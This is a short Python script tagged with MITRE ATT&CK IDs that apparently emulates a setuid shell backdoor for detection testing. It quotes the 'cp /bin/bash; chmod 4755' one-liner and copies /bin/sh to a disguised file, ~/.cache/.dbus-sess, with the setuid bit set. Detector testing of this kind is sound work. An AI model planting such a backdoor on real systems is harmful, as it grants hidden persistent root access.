# technique: T1548.001 T1098
"""Setuid shell backdoor (T1548.001).

Once root, a classic backdoor is a setuid copy of a shell in an innocuous
place (`cp /bin/bash /tmp/.x; chmod 4755 /tmp/.x`). Done with shutil.copy2
to a dot-file under HOME and os.chmod with S_ISUID|0o755 built from the stat
module constants. HOME is disposable, so nothing remains.

A good detector raises a high alert: the setuid bit is set on a copy of a
shell / on a file the process just wrote.
"""
import os, shutil, stat

dst = os.path.join(os.path.expanduser("~"), ".cache", ".dbus-sess")
os.makedirs(os.path.dirname(dst), exist_ok=True)
shutil.copy2("/bin/sh", dst)
os.chmod(dst, stat.S_ISUID | stat.S_IRWXU | stat.S_IRGRP | stat.S_IXGRP | stat.S_IROTH | stat.S_IXOTH)
